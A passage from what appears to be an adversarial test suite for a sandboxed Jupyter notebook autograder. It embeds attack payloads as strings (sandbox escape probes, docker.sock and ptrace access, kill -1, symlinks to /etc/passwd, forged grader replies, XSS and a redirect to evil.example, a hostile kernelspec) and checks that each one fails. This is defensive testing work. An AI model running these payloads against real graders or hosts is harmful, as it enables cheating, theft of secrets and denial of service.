_libc.shmget(_key, 4096, 0o1600)
for _d in ["/dev/shm", "/tmp", os.path.expanduser("~"), "/grader/ipc", "/var/tmp", "/dev/mqueue"]:
    _f = f"{_d}/persist-{ATK_TOKEN}"
    if os.path.exists(_f):
        atk_found.append(_d)
    try:
        open(_f, "w").write("x")
    except Exception:
        pass
try:
    _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    _s.connect("\0atk-" + ATK_TOKEN)
    atk_found.append("abstract-socket")
except OSError:
    pass
atk_srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    atk_srv.bind("\0atk-" + ATK_TOKEN)
    atk_srv.listen(1)
except OSError:
    pass


def softmax(z, axis=-1):
    raise FileExistsError(atk_report(found=atk_found))
'''


def ev_d6(run: Run) -> None:
    for i in range(len(run.results)):
        rep = run.report(i)
        fail_if(bool(rep["found"]), f"state survived into submission {i + 1}: {rep}")


D7_MALLORY = r'''
atk_hits = []
for _t in ["../alice/mle-act-softmax.ipynb", "/grader/../alice/mle-act-softmax.ipynb",
           os.path.dirname(ATK_SECRET_FILE) + "/../class/alice/mle-act-softmax.ipynb",
           os.path.dirname(ATK_SECRET_FILE) + "/../out/grader.db", os.path.dirname(ATK_SECRET_FILE) + "/../out/gradebook.csv"]:
    try:
        with open(_t, "w") as f:
            f.write("{}")
        atk_hits.append(_t)
    except Exception:
        pass
import glob
for _f in glob.glob("/tmp/grader-*/ipc/kernel.json") + glob.glob("/proc/[0-9]*/root/grader/ipc/kernel.json"):
    atk_hits.append(_f)
atk_exfil(repr(atk_hits))
import signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
'''

D8 = r'''
atk_links = []
for _name, _target in [("kernel.log", ATK_MARKERS[0]), (f"escape-{ATK_TOKEN}", ATK_SECRET_FILE),
                       (f"problems-{ATK_TOKEN}", ATK_REPO + "/problems"), (f"etc-{ATK_TOKEN}", "/etc/passwd")]:
    for _d in ["/grader/ipc", os.getcwd(), "/tmp"]:
        try:
            os.symlink(_target, os.path.join(_d, _name))
            atk_links.append(os.path.join(_d, _name))
        except Exception:
            pass
try:
    os.unlink("/grader/ipc/kernel.json")
    os.symlink(ATK_SECRET_FILE, "/grader/ipc/kernel.json")
    atk_links.append("kernel.json")
except Exception:
    pass
try:
    os.link("/grader/ipc/kernel.json", f"/grader/ipc/hard-{ATK_TOKEN}")
except Exception:
    pass
try:
    os.symlink(ATK_MARKERS[0], "results.json")
except Exception:
    pass
'''

D12_META = {"kernelspec": {"name": "python3-host", "display_name": "Host Python", "language": "python",
                           "argv": ["/bin/sh", "-c", "touch /tmp/atk-kernelspec"], "env": {"LD_PRELOAD": "/tmp/x.so"}},
            "language_info": {"name": "python"}}
D12 = r'''
atk_where = {"exe": sys.executable, "problems": os.path.exists(ATK_REPO + "/problems"),
             "secret": os.path.exists(ATK_SECRET_FILE), "preload": os.environ.get("LD_PRELOAD", "")}
atk_exfil(repr(atk_where))


def softmax(z, axis=-1):
    raise RuntimeError(atk_report(**atk_where))
'''


def ev_d12(run: Run) -> None:
    rep = run.report()
    fail_if(rep["problems"] or rep["secret"] or rep["preload"], f"the notebook chose its own kernel: {rep}")


D13 = r'''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_status = dict(l.split(":\t", 1) for l in open("/proc/self/status").read().splitlines() if ":\t" in l)
atk = {"uid": os.getuid(), "caps": _status["CapEff"].strip(), "nnp": _status.get("NoNewPrivs", "?").strip(),
       "seccomp": _status.get("Seccomp", "?").strip()}
atk["mount"] = _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
atk["mknod"] = _libc.mknod(b"/tmp/atk-dev", 0o20666, os.makedev(1, 3)) == 0
atk["setuid0"] = _libc.setuid(0) == 0
atk["chroot"] = _libc.chroot(b"/tmp") == 0
_r, _w = os.pipe()
_pid = os.fork()
if _pid == 0:  # single-threaded child: unshare(CLONE_NEWUSER) is possible there if nothing blocks it
    _ok = _libc.unshare(0x10000000) == 0
    os.write(_w, b"1" if _ok else b"0")
    os._exit(0)
os.waitpid(_pid, 0)
atk["userns"] = os.read(_r, 1) == b"1"


def softmax(z, axis=-1):
    raise PermissionError(atk_report(**atk))
'''


def ev_d13(run: Run) -> None:
    rep = run.report()
    fail_if(rep["uid"] == 0 or rep["caps"] != "0000000000000000" or rep["nnp"] != "1",
            f"the sandbox runs privileged: {rep}")
    fail_if(rep["mount"] or rep["mknod"] or rep["setuid0"] or rep["chroot"], f"a privileged operation worked: {rep}")
    fail_if(rep["userns"], f"the sandbox can create a nested user namespace (seccomp {rep['seccomp']}): the kernel's "
                           "user-namespace attack surface is open to learner code")


D14 = r'''
atk_ok = []
for _p in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/var/run/dockershim.sock",
           "/run/podman/podman.sock", "/run/user/0/docker.sock"]:
    try:
        _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        _s.connect(_p)
        _s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
        atk_ok.append(_p)
    except OSError:
        pass
for _h, _port in [("172.17.0.1", 2375), ("127.0.0.1", 2375), ("172.17.0.1", 2376)]:
    try:
        socket.create_connection((_h, _port), timeout=1).close()
        atk_ok.append(f"{_h}:{_port}")
    except OSError:
        pass


def softmax(z, axis=-1):
    raise PermissionError(atk_report(ok=atk_ok))
'''

D15 = r'''
import fcntl, termios
atk_ok = []
for _fd in (0, 1, 2):
    try:
        fcntl.ioctl(_fd, termios.TIOCSTI, b"r")
        atk_ok.append(_fd)
    except OSError:
        pass
try:
    _tty = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(_tty, termios.TIOCSTI, b"r")
    atk_ok.append("tty")
except OSError:
    pass
atk_sid = os.getsid(0) == os.getpid() or os.getsid(0) == 1


def softmax(z, axis=-1):
    raise PermissionError(atk_report(ok=atk_ok, own_session=atk_sid))
'''

# ====================================================================== (e) denial or compromise of the grader

E1 = "import ctypes\nctypes.string_at(0)\n"


def ev_e1(run: Run) -> None:
    r = run.result
    assert r.status == "error" and r.error["ename"] == "KernelDied", r.error


E2 = r'''
import signal
for _f in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL),
           lambda: os.kill(-1, signal.SIGKILL)):
    try:
        _f()
    except OSError:
        pass
'''

E3 = r'''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = ctypes.c_long
atk_attached, atk_mem = [], []
for _p in [int(p) for p in os.listdir("/proc") if p.isdigit()] + [os.getppid()]:
    if _p == os.getpid():
        continue
    if _libc.ptrace(16, _p, None, None) == 0:  # PTRACE_ATTACH
        atk_attached.append(_p)
        _libc.ptrace(17, _p, None, None)  # PTRACE_DETACH
    try:
        with open(f"/proc/{_p}/mem", "rb") as f:
            f.seek(0x400000)
            f.read(16)
        atk_mem.append(_p)
    except OSError:
        pass
atk_harness = [p for p in os.listdir("/proc") if p.isdigit()
               and b"pytest" in open(f"/proc/{p}/cmdline", "rb").read()]


def softmax(z, axis=-1):
    raise PermissionError(atk_report(attached=atk_attached, mem=atk_mem, harness=atk_harness))
'''


def ev_e3(run: Run) -> None:
    rep = run.report()
    fail_if(bool(rep["harness"]), f"the harness is visible from the sandbox: {rep}")


E4 = "while True:\n    print('.', end='', flush=True)\n    time.sleep(0.01)\n"

E5 = r'''
for _ in range(10 ** 8):
    display({"text/markdown": "x" * 200, "text/plain": "y"}, raw=True)
'''


def ev_e5(run: Run) -> None:
    ev_host_memory(200)(run)
    r = run.result  # the kernel's own output buffers may hit the memory limit before the host's output cap
    assert (r.status, r.error["ename"]) in (("error", "OutputLimitExceeded"), ("memory", "MemoryError")), r.error


E6 = r'''
json.dumps = lambda *a, **k: "[" * 100000 + "]" * 100000
'''

E6_LIST = r'''
json.dumps = lambda *a, **k: "[]"
'''

B7_NAIVE = r'''
import importlib
_disp = importlib.import_module("IPython.display")
_orig_publish = _disp.publish_display_data


def _forge(data, *a, **k):
    if "application/x-grader-reply+json" in data:
        data = {"application/x-grader-reply+json": json.dumps({"ok": True, "value": True})}
    _orig_publish(data, *a, **k)


_disp.publish_display_data = _forge
'''


E5_DECODE = r'''
import numpy as np
atk_blob = '{"ok":true,"value":[' + "0," * 31_000_000 + '0]}'  # 62 MB: under the 64 MiB message cap


def softmax(z, axis=-1):
    sys.modules["_grader_agent"].handle = lambda request_text, ns: atk_blob  # every later reply is the blob
    return np.zeros_like(z)
'''


E4_SETUP = r'''
import builtins
builtins.exec = lambda *a, **k: time.sleep(10 ** 6)  # the grader's agent is installed with exec()
'''


def ev_error_row(run: Run) -> None:
    r = run.result
    assert r.status == "error" and r.checks_passed == 0 and r.error, (r.status, r.error)

E6_CODEC = r'''
import base64, io
import numpy as np
_agent_calls = [0]


def _npy(arr, allow_pickle=False):
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=allow_pickle)
    return base64.b64encode(buf.getvalue()).decode()


_nested = {"__t": "tuple", "v": []}
for _ in range(60):
    _nested = {"__t": "tuple", "v": [_nested]}
atk_replies = [
    {"ok": True, "value": {"__t": "ndarray", "npy": _npy(np.array([{"a": 1}], dtype=object), True)}},
    {"ok": True, "value": {"__t": "objarray", "shape": [10 ** 12], "v": [1]}},
    {"ok": True, "value": _nested},
    {"ok": True, "value": {"__t": "handle", "id": "../../etc/passwd", "type": "x"}},
    {"ok": True, "value": "\u0000\u202e<script>alert(1)</script>\x1b[2J"},
    {"ok": True, "value": {"__t": "float", "v": "1e999"}},
    {"ok": True, "value": {"__t": "dict", "items": [[[1, 2], 3]]}},
    {"ok": True, "value": {"__t": "index", "kind": "range", "start": 0, "stop": 10 ** 18, "step": 1, "name": None}},
    {"ok": False, "error": {"type": "KeyboardInterrupt", "module": "builtins", "mro": [["builtins", "BaseException"]],
                            "message": "x"}},
    {"ok": False, "error": {"type": "SystemExit", "module": "builtins", "mro": [], "message": "0"}},
    {"ok": False, "error": "not a dict"},
    {"ok": "yes"},
]


def softmax(z, axis=-1):
    agent = sys.modules["_grader_agent"]
    if not getattr(agent, "_atk_patched", False):
        _real = agent.handle

        def handle(request_text, ns):
            _agent_calls[0] += 1
            return json.dumps(atk_replies[(_agent_calls[0] - 1) % len(atk_replies)])
        agent.handle = handle
        agent._atk_patched = True
    return np.zeros_like(z)
'''


def ev_e6_codec(run: Run) -> None:
    r = run.result
    fail_if(r.checks_passed > 0, f"crafted replies earned {r.checks_passed} passes")


E7_ALICE = r'''
_Bad = type("Bad", (Exception,), {})
_Bad.__qualname__ = "<img src=x onerror=alert(1)>"
_Bad.__name__ = "<img src=x onerror=alert(1)>"
raise _Bad("\"><script>alert(document.cookie)</script><a href=javascript:alert(1)>x</a>")
'''
E7_BOB = r'''
import numpy as np
_Bad = type("Bad", (ValueError,), {})
_Bad.__qualname__ = "<svg/onload=alert(1)>"


def softmax(z, axis=-1):
    raise _Bad("</code></td><script>alert(1)</script><iframe src=javascript:alert(1)></iframe>\u202e"
               "<style>body{display:none}</style><meta http-equiv=refresh content='0;url=http://evil.example'>")
'''

# ====================================================================== the table

OK, WRONG = SOFTMAX_OK, SOFTMAX_WRONG

ATTACKS: list[Attack] = [
    Attack("A1", "read hidden tests next to the submission", (A1,), limits={"cell_s": 20, "total_s": 40},
           evidence=ev_a1, process=_PROC_FS),
    Attack("A2", "read tests or expected values from interpreter memory", (A2,), evidence=ev_a2, process=_PROC_OK),
    Attack("A3", "read instructor files (course repo, gradebook, other students)", (A3,), evidence=ev_a3,
           process=_PROC_FS),
    Attack("A4", "exfiltrate over the network (TCP, HTTP, UDP, DNS)", (A4,), evidence=ev_a4, process=_PROC_NET),
    Attack("A5", "leak through the feedback channel (huge messages, tracebacks, globals)", (A5,), evidence=ev_a5,
           process=_PROC_OK),
    Attack("A6", "read harness secrets via /proc, argv or the environment", (A6,), evidence=ev_a6,
           process="process fallback: environment scrubbed, but host /proc (harness argv) is readable"),
    Attack("A7", "read leftovers of an earlier submission", (A7,), runs=2, evidence=ev_a7,
           process="process fallback: fresh work dir, but the host /tmp is shared"),
    Attack("A8", "talk to another sandbox's kernel through its connection file", (A8,), neighbour=True,
           evidence=ev_a8, process=_PROC_FS),
    Attack("A9", "overfit the public example (oracle attacks need many submissions; the overfit answer must fail)",
           (A9,), evidence=ev_a9, process=_PROC_OK),
    Attack("B1", "monkeypatch assertion helpers shared via sys.modules", (WRONG, B1), statuses=frozenset({"failed"}),
           process=_PROC_OK),
    Attack("B2", "patch builtins", (WRONG, B2), process=_PROC_OK),
    Attack("B3", "objects that compare equal to everything", (B3,), statuses=frozenset({"failed"}), evidence=ev_b3,
           process=_PROC_OK),
    Attack("B4", "hijack pytest (conftest.py, plugins, internals)", (WRONG, B4), statuses=frozenset({"failed"}),
           process=_PROC_FS),
    Attack("B5", "blank later cells through IPython input/AST transformers", (WRONG, B5),
           process=_PROC_OK),
    Attack("B6", "hide errors (showtraceback, set_custom_exc)", (WRONG, B6, "raise KeyError('hidden')"),
           process=_PROC_OK),
    Attack("B7", "forge Jupyter replies and outputs from inside the kernel", (WRONG, B7),
           statuses=frozenset({"failed"}), process=_PROC_OK),
    Attack("B8", "exit early with status 0", (B8,), evidence=ev_b8, process=_PROC_OK),
    Attack("B9", "write, lock or symlink the results file", (WRONG, B9), statuses=frozenset({"failed"}),
           evidence=ev_b9, process=_PROC_FS),
    Attack("B10", "print fake result markers", (B10,), statuses=frozenset({"failed"}), process=_PROC_OK),
    Attack("B11", "raise special exceptions (skip, exit, interrupt, hostile __str__)", (B11,), evidence=ev_b11,
           process=_PROC_OK),
    Attack("B12", "late writes: atexit, __del__, finalizers, daemon threads, signal handlers", (WRONG, B12),
           settle_s=1.5, process=_PROC_FS),
    Attack("B13", "neutralise the timeout machinery (ignore and block signals)", (OK, B13),
           statuses=frozenset({"timeout"}), evidence=ev_timeout, process=_PROC_OK),
    Attack("B14", "tamper with inputs and the RNG", (B14,), statuses=frozenset({"failed"}), evidence=ev_b14,
           process=_PROC_OK),
    Attack("B15", "tamper with grading cells and metadata", B15_CELLS, metadata=B15_META,
           statuses=frozenset({"failed"}), process=_PROC_OK),
    Attack("C1", "infinite CPU loop", (OK, C1), statuses=frozenset({"timeout"}), evidence=ev_timeout, process=_PROC_OK),
    Attack("C2", "sleep or block on stdin/events", (OK, C2), statuses=frozenset({"timeout"}), evidence=ev_timeout,
           process=_PROC_OK),
    Attack("C3", "block inside C code with signals masked", (OK, C3), statuses=frozenset({"timeout"}),
           evidence=ev_timeout, process=_PROC_OK),
    Attack("C4", "fork bomb (correct solution otherwise)", (OK, C4), statuses=ANY_STATUS, sample_tasks=True,
           evidence=ev_tasks_within_pids, process="process fallback: pids capped by the cgroup when one can be made",
           process_ok=True),
    Attack("C5", "thread storm (correct solution otherwise)", (OK, C5), statuses=ANY_STATUS, sample_tasks=True,
           evidence=ev_tasks_within_pids, process="process fallback: pids capped by the cgroup when one can be made",
           process_ok=True),
    Attack("C6", "memory bomb", (OK, C6), statuses=frozenset({"memory"}), evidence=ev_memory, process=_PROC_OK),
    Attack("C7", "disk and inode exhaustion", (OK, C7), limits={"memory_mb": 768, "cell_s": 10},
           evidence=ev_c7, process="process fallback: no scratch cap at all (host disk)"),
    Attack("C8", "huge stdout", (OK, C8), statuses=frozenset({"error", "memory"}), evidence=ev_c8, process=_PROC_OK),
    Attack("C9", "oversized return values (over the message cap, over the transport cap)", (C9,), limits={"memory_mb": 1024},
           evidence=ev_host_memory(512), process=_PROC_OK),
    Attack("C10", "orphans escaping the process group (setsid, double fork, SIGHUP ignored)", (OK, C10),
           statuses=ANY_STATUS, process="process fallback: killed through the cgroup when one can be made",
           process_ok=True),
    Attack("C11", "starve neighbours in a batch (CPU spinners)", flow="batch_starve", statuses=ANY_STATUS,
           process="process fallback: refused for batches without --allow-unisolated"),
    Attack("D1", "network for lateral movement (cloud metadata, Docker API, databases)", (D1,), evidence=ev_ok_empty,
           process=_PROC_NET),
    Attack("D2", "read host files", (D2,), evidence=ev_ok_empty, process=_PROC_FS),
    Attack("D3", "probe /proc and /sys (harness processes, cgroup limits)", (D3,), evidence=ev_d3, process=_PROC_FS),
    Attack("D4", "environment secrets", (D4,), evidence=ev_d4, process=_PROC_OK),
    Attack("D5", "plant start-up hooks (.pth, startup files, usercustomize, numpy.py)", (WRONG, D5),
           statuses=frozenset({"failed"}), process=_PROC_FS),
    Attack("D6", "persist across submissions (keyring, SysV shm, /dev/shm, abstract sockets)", (D6,), runs=2,
           evidence=ev_d6, process="process fallback: host /tmp, /dev/shm and the network namespace are shared"),
    Attack("D7", "hurt classmates in the same batch (kill -1, write their files)", flow="batch_classmates",
           statuses=ANY_STATUS, process="process fallback: refused for batches without --allow-unisolated"),
    Attack("D8", "symlink and hardlink tricks", (WRONG, D8), statuses=frozenset({"failed"}), process=_PROC_FS),
    Attack("D9", "zip-slip, links and bombs in a class archive", flow="zip_slip", statuses=ANY_STATUS,
           process="process fallback: extraction happens on the trusted side, same checks", process_ok=True),
    Attack("D10", "malformed .ipynb files", flow="malformed", statuses=frozenset({"invalid"}), process=_PROC_OK),
    Attack("D11", "huge notebook (outputs and attachments)", flow="huge", process=_PROC_OK),
    Attack("D12", "hostile kernelspec in the notebook metadata", (D12,), metadata=D12_META, evidence=ev_d12,
           process="process fallback: the kernelspec is ignored too, but the kernel is not isolated"),
    Attack("D13", "privileged operations and kernel attack surface", (D13,), evidence=ev_d13,
           process="process fallback: no namespaces, no seccomp"),
    Attack("D14", "container control plane (docker.sock, Docker API over TCP)", (D14,), evidence=ev_ok_empty,
           process=_PROC_NET),
    Attack("D15", "terminal injection (TIOCSTI)", (D15,), evidence=ev_ok_empty, process=_PROC_OK),
    Attack("E1", "crash the kernel (segfault)", (OK, E1), statuses=frozenset({"error"}), evidence=ev_e1,
           process=_PROC_OK),
    Attack("E2", "kill the parent, the process group, everything", (OK, E2), neighbour=True,
           process="process fallback: kill(-1) would reach every process of the grader's uid"),
    Attack("E3", "ptrace or /proc/<pid>/mem the harness", (E3,), neighbour=True, evidence=ev_e3,
           process="process fallback: the harness is visible and of the same uid"),
    Attack("E4", "hang the harness (a busy cell that never ends)", (OK, E4), statuses=frozenset({"timeout"}),
           evidence=ev_timeout, process=_PROC_OK),
    Attack("E5", "flood the harness with display messages", (OK, E5), statuses=frozenset({"error", "memory"}),
           evidence=ev_e5, process=_PROC_OK),
    Attack("E6", "exploit the harness's parsers (kernel messages as deeply nested JSON)", (WRONG, E6),
           evidence=ev_error_row, process=_PROC_OK),
    Attack("E7", "inject active content into reports (HTML in names, exception types, messages)",
           flow="report_xss", statuses=ANY_STATUS, process=_PROC_OK),
    Attack("E8", "submission flooding (each submission is one row; no rate limit exists)", flow="flood",
           statuses=ANY_STATUS, process=_PROC_OK),
]



def ev_csv(run: Run) -> None:
    risky = [c for c in run.extra["csv_cells"] if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    fail_if(bool(risky), f"spreadsheet formulas from file names reach gradebook.csv: {risky[:2]}")


def ev_tty(run: Run) -> None:
    for name in ("stdout", "stderr"):
        fail_if("\x1b" in run.outputs[name] or "\x07" in run.outputs[name],
                f"terminal escape sequences from file names reach the instructor's terminal ({name}): "
                f"{run.outputs[name][:160]!r}")


# Variants that are not separate catalogue entries but sharpen one.
VARIANTS: list[Attack] = [
    Attack("C9-display", "a display payload over the transport's message cap", (OK, C9_DISPLAY),
           limits={"memory_mb": 1024, "total_s": 10}, evidence=ev_host_memory(512), process=_PROC_OK),
    Attack("E5-decode", "a reply under the message cap that decodes to a huge object on the trusted side",
           (E5_DECODE,), limits={"memory_mb": 1024, "total_s": 12}, evidence=ev_host_memory(512), process=_PROC_OK),
    Attack("E4-setup", "hang the grader's own set-up request (builtins.exec blocks)", (WRONG, E4_SETUP),
           limits={"startup_s": 4, "total_s": 60}, process=_PROC_OK),
    Attack("E6-list", "kernel messages that are valid JSON of the wrong shape", (WRONG, E6_LIST),
           evidence=ev_error_row, process=_PROC_OK),
    Attack("B7-naive", "forge a malformed reply to the grader's first request (the name lookup)", (WRONG, B7_NAIVE),
           process=_PROC_OK),
    Attack("E6-codec", "crafted agent replies: pickled npy, huge shapes, deep nesting, spoofed handles, NUL/bidi",
           (E6_CODEC,), statuses=frozenset({"failed"}), evidence=ev_e6_codec, process=_PROC_OK),
    Attack("D9-dup", "duplicate or clashing entries in a class archive", flow="zip_dup", statuses=ANY_STATUS,
           process=_PROC_OK),
    Attack("E7-csv", "formula injection through a file name into gradebook.csv", flow="report_names",
           statuses=ANY_STATUS, evidence=ev_csv, process=_PROC_OK),
    Attack("D15-tty", "terminal escape sequences through file names into the instructor's terminal",
           flow="report_names", statuses=ANY_STATUS, evidence=ev_tty, process=_PROC_OK),
]

CATALOGUE_IDS = ([f"A{i}" for i in range(1, 10)] + [f"B{i}" for i in range(1, 16)] + [f"C{i}" for i in range(1, 12)]
                 + [f"D{i}" for i in range(1, 16)] + [f"E{i}" for i in range(1, 9)])
assert [a.id for a in ATTACKS] == CATALOGUE_IDS
